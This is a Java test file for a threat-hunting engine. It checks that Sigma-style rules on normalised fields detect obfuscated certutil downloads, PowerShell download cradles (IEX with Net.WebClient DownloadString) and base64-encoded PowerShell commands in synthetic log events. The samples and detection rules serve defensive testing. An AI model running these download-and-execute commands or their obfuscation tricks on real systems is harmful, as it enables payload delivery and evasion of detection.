package org.gamekeeper.engine.hunt;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Rules read {@code CommandLineNormalized} through the whole hunt; rules on the raw field see the raw text. */
class DerivedFieldsHuntTest {

    @TempDir
    Path dir;

    private static final String NORMALIZED = """
            title: Certutil download (normalised)
            id: 33333333-3333-3333-3333-333333333333
            status: test
            author: Gamekeeper tests
            level: high
            logsource: {product: windows, category: process_creation}
            detection:
              selection:
                CommandLineNormalized|contains|all: ['certutil', '-urlcache', 'http']
              condition: selection
            """;

    private static final String RAW = NORMALIZED.replace("33333333-3333-3333-3333-333333333333", "44444444-4444-4444-4444-444444444444")
            .replace("CommandLineNormalized|contains|all", "CommandLine|contains|all");

    private static final String SCRIPT = """
            title: Download cradle in a script block (normalised)
            id: 55555555-5555-5555-5555-555555555555
            status: test
            author: Gamekeeper tests
            level: high
            logsource: {product: windows, service: powershell}
            detection:
              selection:
                ScriptBlockTextNormalized|contains|all: ['iex', 'downloadstring']
              condition: selection
            """;

    private static String json(String s) {
        return s.replace("\\", "\\\\").replace("\"", "\\\"");
    }

    private static String process(int eventId, String cmd) {
        String channel = eventId == 1 ? "Microsoft-Windows-Sysmon/Operational" : "Security";
        return "{\"EventID\":" + eventId + ",\"Channel\":\"" + channel + "\",\"Hostname\":\"WS1\",\"@timestamp\":\"2024-02-01T10:00:00Z\","
                + "\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
                + "\"CommandLine\":\"" + json(cmd) + "\"}";
    }

    @Test
    void aRuleOnTheNormalisedFieldSeesThroughObfuscationOnSysmonAnd4688AndRawRulesDoNot() throws IOException {
        Path f = dir.resolve("events.json");
        Files.write(f, List.of(
                process(1, "certutil -urlcache -f http://10.0.0.5/a.exe a.exe"),
                process(1, "c^e^r\"t\"util /u^rlcache /f h^ttp://10.0.0.5/a.exe a.exe"),
                process(4688, "CERTUTIL \u2013URLCACHE \u2013F http://10.0.0.5/a.exe a.exe"),
                process(1, "certutil -hashfile a.exe SHA256")));
        HuntFixture.Rules rules = HuntFixture.rules(List.of(write("n.yml", NORMALIZED), write("r.yml", RAW)));
        HuntFixture.Result r = HuntFixture.hunt(rules, 1, f.toString());
        List<String> normalised = r.alerts().stream().filter(a -> a.ruleId().startsWith("3")).map(a -> a.eventRefs().get(0)).toList();
        List<String> raw = r.alerts().stream().filter(a -> a.ruleId().startsWith("4")).map(a -> a.eventRefs().get(0)).toList();
        assertEquals(List.of(f + "#L1", f + "#L2", f + "#L3"), normalised);
        // The raw field is matched as it is (Sigma's contains is case-insensitive, so the upper-case
        // 4688 line matches too; its Unicode dashes do not): only the plain command and that one.
        assertEquals(List.of(f + "#L1"), raw);
    }

    @Test
    void aRuleOnTheNormalisedScriptBlockSeesThroughTicksAndConcatenation() throws IOException {
        Path f = dir.resolve("ps.json");
        String script = "I`EX (New-Object Net.WebClient).('Down'+'loadString')('http://x/a')";
        Files.write(f, List.of(
                "{\"EventID\":4104,\"Channel\":\"Microsoft-Windows-PowerShell/Operational\",\"Hostname\":\"WS1\",\"@timestamp\":\"2024-02-01T10:00:00Z\",\"ScriptBlockText\":\""
                        + json(script) + "\"}",
                "{\"EventID\":4104,\"Channel\":\"Microsoft-Windows-PowerShell/Operational\",\"Hostname\":\"WS1\",\"@timestamp\":\"2024-02-01T10:00:01Z\",\"ScriptBlockText\":\"Get-ChildItem\"}"));
        HuntFixture.Result r = HuntFixture.hunt(HuntFixture.rules(SCRIPT), 1, f.toString());
        assertEquals(1, r.alerts().size(), r.alerts().toString());
        assertEquals(f + "#L1", r.alerts().get(0).eventRefs().get(0));
    }

    @Test
    void anEncodedCommandIsMatchedByWhatItDecodesTo() throws IOException {
        Path f = dir.resolve("enc.json");
        String b64 = Base64.getEncoder().encodeToString("certutil -urlcache -f http://10.0.0.5/a.exe".getBytes(StandardCharsets.UTF_16LE));
        Files.write(f, List.of(process(1, "powershell -w 1 -En " + b64)));
        HuntFixture.Result r = HuntFixture.hunt(HuntFixture.rules(NORMALIZED), 1, f.toString());
        assertEquals(1, r.alerts().size(), r.alerts().toString());
    }

    @Test
    void everyAlertOfAnEventReadsThatEventsDetailsAndEntities() throws IOException {
        // Two rules match each of three events in a row on one worker: an event's alerts share
        // what was read of it, and nothing read of one event reaches the next one's alerts.
        Path f = dir.resolve("three.json");
        List<String> lines = new java.util.ArrayList<>();
        for (int i = 1; i <= 3; i++) {
            lines.add(process(1, "certutil -urlcache -f http://10.0.0." + i + "/a.exe a.exe")
                    .replace("\"Hostname\":\"WS1\"", "\"Hostname\":\"WS" + i + "\",\"User\":\"CORP\\\\user" + i + "\""));
        }
        Files.write(f, lines);
        HuntFixture.Rules rules = HuntFixture.rules(List.of(write("n.yml", NORMALIZED), write("r.yml", RAW)));
        HuntFixture.Result r = HuntFixture.hunt(rules, 1, f.toString());
        assertEquals(6, r.alerts().size(), r.alerts().toString());
        for (var a : r.alerts()) {
            int line = Integer.parseInt(a.eventRefs().get(0).substring(a.eventRefs().get(0).lastIndexOf('L') + 1));
            assertEquals("certutil -urlcache -f http://10.0.0." + line + "/a.exe a.exe", a.details().get("CommandLine"), a.toString());
            assertEquals("CORP\\user" + line, a.entities().get("User"), a.toString());
        }
    }

    private Path write(String name, String text) throws IOException {
        Path p = dir.resolve(name);
        Files.writeString(p, text);
        return p;
    }
}
